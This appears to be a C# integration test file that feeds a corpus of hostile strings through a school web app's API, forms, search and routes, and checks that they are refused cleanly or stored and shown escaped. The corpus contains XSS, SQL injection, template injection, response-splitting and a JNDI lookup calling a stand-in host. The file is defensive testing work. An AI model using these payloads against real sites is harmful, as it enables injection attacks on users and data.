using System.Net;
using System.Net.Http.Json;
using System.Text;
using Microsoft.EntityFrameworkCore;
using Signpost.IntegrationTests.Infrastructure;

namespace Signpost.IntegrationTests.Features;

/// <summary>A corpus of hostile strings: script injection, breakouts, SQL and format metacharacters, control and bidi characters, invalid UTF-16, very long text.</summary>
public static class HostileStrings
{
    public static readonly string[] Corpus =
    [
        "<script>alert('x')</script>",
        "\"><img src=x onerror=alert(1)>",
        "'><svg/onload=alert(1)>",
        "</textarea><script>document.title='pwned'</script>",
        "javascript:alert(1)",
        "<a href=\"javascript:alert(1)\">click</a>",
        "{{constructor.constructor('alert(1)')()}}",
        "'; DROP TABLE \"People\"; --",
        "Robert'); DELETE FROM \"Sites\" WHERE ('1'='1",
        "%s%s%s%n %x {0} {1:D} ${jndi:ldap://x.example/a}",
        "=HYPERLINK(\"http://x.example\",\"click\")",
        "line one\r\n\r\nHTTP/1.1 200 OK\r\nSet-Cookie: a=b",
        "a\u0000b\u0007c\u001b[31mred",
        "\u202Egnp.exe and \u2066isolated\u2069 text",
        "zero\u200Bwidth\uFEFFjoiners\u200D",
        "Zoë, Siân and José 👩🏽‍🏫 wrote this — ﬁne",
        "a\uD800b lone surrogate",
        new string('A', 100_000),
    ];

    public static TheoryData<int> Cases() => new(Enumerable.Range(0, Corpus.Length));
}

/// <summary>
/// Issue 7, "Hostile input": strings people (or attackers) type, through the real HTTP pipeline into every kind of
/// field — API bodies, form fields, search boxes, query strings, route values. Never a 500; what is accepted is stored
/// exactly as typed (surrounding spaces aside) and shown back escaped; what is refused gets a clear 4xx.
/// </summary>
public abstract class HostileInputTests<TFactory>(TFactory app) : IClassFixture<TFactory>
    where TFactory : SignpostFactory
{

    [Theory]
    [MemberData(nameof(HostileStrings.Cases), MemberType = typeof(HostileStrings))]
    public async Task A_proposal_field_is_refused_clearly_or_stored_exactly_and_shown_escaped(int i)
    {
        var hostile = HostileStrings.Corpus[i];
        var api = await app.ApiAsAsync("teacher.y2");
        var r = await api.PostAsync("/api/sites", RawJson(("name", $"Site {i} {hostile}"), ("purpose", hostile)));
        Assert.True((int)r.StatusCode < 500, $"got {(int)r.StatusCode}");
        if (!r.IsSuccessStatusCode)
        {
            Assert.Equal("application/problem+json", r.Content.Headers.ContentType?.MediaType);
            return;
        }

        var slug = (await r.JsonAsync()).GetProperty("slug").GetString()!;
        await using (var db = app.SystemDb())
        {
            var site = await db.Sites.SingleAsync(s => s.Slug == slug);
            Assert.Equal($"Site {i} {hostile}".Trim(), site.Name);
            Assert.Equal(hostile.Trim(), site.Purpose);
        }

        var browser = app.Browser();
        await browser.SignInOkAsync("teacher.y2");
        var html = await browser.GetPageAsync($"/sites/{slug}/proposal");
        AssertEscaped(html, hostile);
    }

    [Theory]
    [MemberData(nameof(HostileStrings.Cases), MemberType = typeof(HostileStrings))]
    public async Task A_pupils_comment_is_refused_clearly_or_stored_exactly(int i)
    {
        var hostile = HostileStrings.Corpus[i];
        var pupil = await app.ApiAsAsync("y4.pupil4");
        var r = await pupil.PostAsync("/api/sites/year-4/posts/viking-longships/comments", RawJson(("text", hostile)));
        Assert.True((int)r.StatusCode < 500, $"got {(int)r.StatusCode}");
        if (r.StatusCode == HttpStatusCode.TooManyRequests)
        {
            return; // the per-person comment limit (tested elsewhere) is a clear refusal too
        }

        if (r.StatusCode != HttpStatusCode.Created)
        {
            Assert.Equal("application/problem+json", r.Content.Headers.ContentType?.MediaType);
            return;
        }

        var id = Guid.Parse((await r.JsonAsync()).GetProperty("id").GetString()!);
        await using var db = app.SystemDb();
        Assert.Equal(hostile.Trim(), (await db.Comments.SingleAsync(c => c.Id == id)).Text);
    }

    [Theory]
    [MemberData(nameof(HostileStrings.Cases), MemberType = typeof(HostileStrings))]
    public async Task Search_boxes_query_strings_and_route_values_never_fail(int i)
    {
        var hostile = HostileStrings.Corpus[i].Length > 4000 ? HostileStrings.Corpus[i][..4000] : HostileStrings.Corpus[i];
        var e = Uri.EscapeDataString(hostile);
        var head = app.Browser();
        await head.SignInOkAsync("head");
        var urls = new List<string> { $"/people?q={e}", $"/audit?action={e}&actor={e}", $"/sites/school?x={e}" };
        if (!hostile.Contains('\0', StringComparison.Ordinal))
        {
            // A NUL in the path never reaches the app: Kestrel answers 400 itself (the test server throws instead).
            urls.AddRange([$"/sites/{e}", $"/sites/school/posts/{e}", $"/report/comment/{e}", $"/sites/{e}/feed"]);
        }

        foreach (var url in urls)
        {
            var r = await head.GetAsync(url);
            Assert.True((int)r.StatusCode < 500, $"{url[..Math.Min(url.Length, 60)]}: got {(int)r.StatusCode}");
            if (r.StatusCode == HttpStatusCode.OK)
            {
                AssertEscaped(await r.Content.ReadAsStringAsync(), hostile, shownAsText: false);
            }
        }
    }

    [Fact]
    public async Task Invalid_utf8_and_malformed_json_get_400_not_500()
    {
        var api = await app.ApiAsAsync("teacher.y2");
        foreach (var url in new[] { "/api/sites", "/api/sites/year-4/posts/viking-longships/comments", "/api/check" })
        {
            var bad = new ByteArrayContent([0x7b, 0x22, 0x6e, 0x61, 0x6d, 0x65, 0x22, 0x3a, 0x22, 0xff, 0xfe, 0xc3, 0x28, 0x22, 0x7d]); // {"name":"<invalid UTF-8>"}
            bad.Headers.ContentType = new("application/json");
            var r = await api.PostAsync(url, bad);
            Assert.True(r.StatusCode is HttpStatusCode.BadRequest or HttpStatusCode.Forbidden, $"{url}: got {(int)r.StatusCode}");

            var truncated = await api.PostAsync(url, new StringContent("{\"name\": \"unterminated", Encoding.UTF8, "application/json"));
            Assert.True(truncated.StatusCode is HttpStatusCode.BadRequest or HttpStatusCode.Forbidden, $"{url}: got {(int)truncated.StatusCode}");
        }
    }

    /// <summary>
    /// JSON written by hand, every character outside printable ASCII as a \uXXXX escape, so that what a hostile client
    /// can send (a lone surrogate, a NUL) reaches the server as such; a serializer would quietly repair it first.
    /// </summary>
    private static StringContent RawJson(params (string Name, string Value)[] fields)
    {
        var sb = new StringBuilder("{");
        foreach (var (name, value) in fields)
        {
            sb.Append(sb.Length > 1 ? "," : "").Append('"').Append(name).Append("\":\"");
            foreach (var c in value)
            {
                if (c is < ' ' or > '~' or '"' or '\\')
                {
                    sb.Append("\\u").Append(((int)c).ToString("x4", System.Globalization.CultureInfo.InvariantCulture));
                }
                else
                {
                    sb.Append(c);
                }
            }

            sb.Append('"');
        }

        return new StringContent(sb.Append('}').ToString(), Encoding.UTF8, "application/json");
    }

    /// <summary>The raw markup never appears in the page; an escaped form of the text does (for text short enough to show whole).</summary>
    private static void AssertEscaped(string html, string hostile, bool shownAsText = true)
    {
        foreach (var dangerous in new[] { "<script>alert", "<img src=x onerror", "<svg/onload", "<script>document.title", "<a href=\"javascript:" })
        {
            if (hostile.Contains(dangerous, StringComparison.Ordinal))
            {
                Assert.DoesNotContain(dangerous, html, StringComparison.Ordinal);
            }
        }

        if (shownAsText && hostile.Contains('<', StringComparison.Ordinal) && hostile.Length < 200)
        {
            Assert.Contains(hostile.Trim().Split('\n')[0], Http.Text(html), StringComparison.Ordinal);
        }
    }
}

public sealed class HostileInputTests_Sqlite(SqliteFactory app) : HostileInputTests<SqliteFactory>(app);

[Collection("postgres")]
public sealed class HostileInputTests_Postgres(PostgresFactory app) : HostileInputTests<PostgresFactory>(app);
